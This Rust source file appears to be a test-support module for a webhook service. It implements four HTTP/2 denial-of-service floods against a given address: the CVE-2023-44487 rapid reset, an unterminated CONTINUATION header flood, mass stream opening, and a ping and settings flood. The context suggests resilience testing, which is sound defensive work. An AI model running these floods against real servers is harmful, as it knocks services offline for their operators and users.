//! Attacks with frames.

use std::{io, net::SocketAddr, time::Duration};

use tokio::{io::AsyncWriteExt, time::sleep};
use wahook_services::Frames;

use super::{connect, until_closed};

const PATH: &str = "/hooks/shop";

fn odd(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

async fn send(address: SocketAddr, frames: Frames) -> io::Result<()> {
    let mut stream = connect(address).await?;
    stream.write_all(frames.bytes()).await?;
    until_closed(&mut stream).await
}

/// CVE-2023-44487: requests that are taken back at once.
pub(super) async fn rapid_reset(address: SocketAddr) -> io::Result<()> {
    let reset = |frames: Frames, stream| frames.post(stream, PATH).reset(stream);
    send(address, odd(1_000).fold(Frames::opening(), reset)).await
}

/// A head without an end.
pub(super) async fn continuation(address: SocketAddr) -> io::Result<()> {
    let value = "1".repeat(100);
    let more = |frames: Frames, number| frames.continuation(1, &format!("x-{number}"), &value);
    send(
        address,
        (0..5_000).fold(Frames::opening().post_begun(1, PATH), more),
    )
    .await
}

/// Requests whose bodies do not come, more than may be at once.
pub(super) async fn streams(address: SocketAddr) -> io::Result<()> {
    send(
        address,
        odd(5_000).fold(Frames::opening(), |frames, stream| frames.post(stream, PATH)),
    )
    .await
}

/// Questions whose answers are not read.
pub(super) async fn pings(address: SocketAddr) -> io::Result<()> {
    let mut stream = connect(address).await?;
    let all = (0..10_000).fold(Frames::opening(), |frames, _| frames.ping().settings());
    stream.write_all(all.bytes()).await?;
    sleep(Duration::from_secs(1)).await;
    Ok(())
}
